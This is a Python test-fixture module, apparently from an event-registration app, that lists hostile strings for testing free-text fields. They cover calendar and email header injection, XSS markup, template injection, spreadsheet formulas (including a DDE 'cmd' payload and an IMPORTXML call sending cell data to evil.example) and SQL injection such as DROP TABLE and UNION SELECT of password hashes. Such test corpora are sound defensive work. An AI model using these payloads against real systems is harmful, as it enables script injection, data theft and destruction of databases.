"""Hostile text for every free-text field: markup, template syntax, calendar and header
injection, spreadsheet formulas, SQL, odd Unicode and control characters.

Every payload fits the shortest free-text field it is put into (80 characters: a board name).
The order matters a little: the tests spread the corpus over each form's fields in windows,
so the payloads that attack titles and subjects (calendar, header) come first and land in
titles.
"""

from __future__ import annotations

from dataclasses import dataclass

from koosloome.clean_input import clean_text


@dataclass(frozen=True)
class Payload:
    """One hostile value and what it attacks."""

    text: str
    kind: str  # calendar, header, markup, template, formula, sql, unicode, control

    @property
    def stored(self) -> str:
        """What the database may hold: the text without control characters other than tab
        and line breaks (``koosloome.clean_input`` removes them on input)."""
        return clean_text(self.text)


def _p(kind: str, *texts: str) -> list[Payload]:
    return [Payload(text, kind) for text in texts]


CORPUS: tuple[Payload, ...] = tuple(
    _p(
        "calendar",
        "Koosolek\r\nATTENDEE;CN=Evil:mailto:evil@example.ee",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Võltsitud",
        "Saal\nLOCATION:Mujal\nX-INJECTED:jah",
        "a;b,c\\d:e \\n not a newline",
        "END:VCALENDAR",
    )
    + _p(
        "header",
        "Mari\r\nBcc: victim@example.ee",
        "Teema\nX-Injected: yes",
        "Tere\r\n\r\n<html>keha</html>",
        "=?utf-8?q?=41=42?= Encoded-word",
        '"Tamm, Mari" <evil@example.ee>',
    )
    + _p(
        "markup",
        '<script>alert("xss-1")</script>',
        "<img src=x onerror=alert('xss-2')>",
        "<svg onload=alert(3)>",
        "<svg><script>alert(4)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>",
        '"><script>alert(6)</script>',
        "'><img src=x onerror=alert(7)>",
        '" autofocus onfocus="alert(8)',
        "' onmouseover='alert(9)",
        '<a href="javascript:alert(10)">klikk</a>',
        "javascript:alert(11)",
        '<iframe src="javascript:alert(12)"></iframe>',
        "<body onload=alert(13)>",
        "</textarea><script>alert(14)</script>",
        "</title><script>alert(15)</script>",
        '<div style="background:url(javascript:alert(16))">x</div>',
        '<p style="width:expression(alert(17))">CSS</p>',
        "<style>@import 'http://evil.example/x.css';</style>",
        '<!--<img src="--><img src=x onerror=alert(19)//">',
        "<details open ontoggle=alert(20)>",
        '<object data="data:text/html;base64,PHNjcmlwdD4=">',
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        "&lt;script&gt;alert(24)&lt;/script&gt;",
        '<a href=" jav&#x09;ascript:alert(25)">x</a>',
        "]]><script>alert(26)</script><![CDATA[",
        "<scr\x00ipt>alert(27)</scr\x00ipt>",
    )
    + _p(
        "template",
        "{{7*191}} {{ config }}",
        "{% raw %}{{ request }}{% endraw %}{% include 'base.html' %}",
        "${7*191} #{7*191} <%= 7*191 %>",
        "%(name)s %s %d {0} {name} %%",
    )
    + _p(
        "formula",
        '=HYPERLINK("http://evil.example","klikk")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    )
    + _p(
        "sql",
        "'; DROP TABLE registration; --",
        '" OR 1=1 --',
        "Robert'); DELETE FROM event WHERE ('1'='1",
        "100% _kõik_ \\ osalejad \\\\ \\'",
        "\\'; SELECT pg_sleep(5); --",
        "' UNION SELECT password_hash FROM user_account --",
    )
    + _p(
        "unicode",
        "\u202eevil\u202c fdp.exe",
        "Zero\u200bwidth\ufeffBOM\u2028line\u2029para",
        "Ünïcödé 😀 ÕÄÖÜ šž 中文 עברית",
        "Mari\x00Tamm",
    )
    + _p(
        "control",
        "Bell\x07back\x08vt\x0bff\x0cesc\x1b[31mred\x7f",
    )
)

def spread(count: int, fields: list[str], start: int = 0) -> list[dict[str, Payload]]:
    """``count`` submissions of a form with ``fields``: field number j of submission i gets
    payload ``start + i + j * count``, so each field gets a window of the corpus and together
    the fields get all of it when ``count * len(fields) >= len(CORPUS)``."""
    return [
        {
            name: CORPUS[(start + i + j * count) % len(CORPUS)]
            for j, name in enumerate(fields)
        }
        for i in range(count)
    ]
